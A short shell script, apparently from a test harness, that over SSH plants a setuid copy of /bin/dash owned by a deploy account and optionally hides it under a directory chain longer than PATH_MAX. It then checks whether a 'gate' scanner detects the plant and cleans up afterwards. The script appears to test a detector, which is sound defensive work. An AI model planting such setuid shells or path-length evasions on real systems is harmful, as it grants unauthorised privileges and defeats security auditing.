#!/bin/sh
# The deploy login keeps a setuid copy of a shell of its own (4755 deployer: whoever runs it, the app user too,
# gets the deploy login's rights). Control: in /var/tmp/k. ATTACK=1: at the end of a chain of directories whose
# path is longer than PATH_MAX (4096): the walk opens directories by path.
W=${W:-/tmp/atk14}; CT=$(cat $W/ct)
ssh -F $W/ssh_config deployer 'rm -rf /var/tmp/k; python3 - '"${ATTACK:+deep}"' <<"PY"
import os, shutil, sys
d = "/var/tmp/k"
os.makedirs(d)
fd = os.open(d, os.O_RDONLY)
if sys.argv[1:] == ["deep"]:
    for i in range(20):  # 20 x 250 characters: a path of ~5000
        os.mkdir("x" * 250, dir_fd=fd)
        fd = os.open("x" * 250, os.O_RDONLY, dir_fd=fd)
with open("/bin/dash", "rb") as src, open(os.open("sh", os.O_WRONLY | os.O_CREAT, 0o755, dir_fd=fd), "wb") as dst:
    shutil.copyfileobj(src, dst)
os.chmod("sh", 0o4755, dir_fd=fd)
print("planted, depth", 20 if sys.argv[1:] else 0)
PY'
echo "--- the gate (read-only, as admin):"
/work/wt/attack14/attack14/gate.sh 2>&1 | grep -E "^FAILED|passed|failed|^  - |^E .*probe" | cut -c1-300
ssh -F $W/ssh_config deployer 'rm -rf /var/tmp/k'
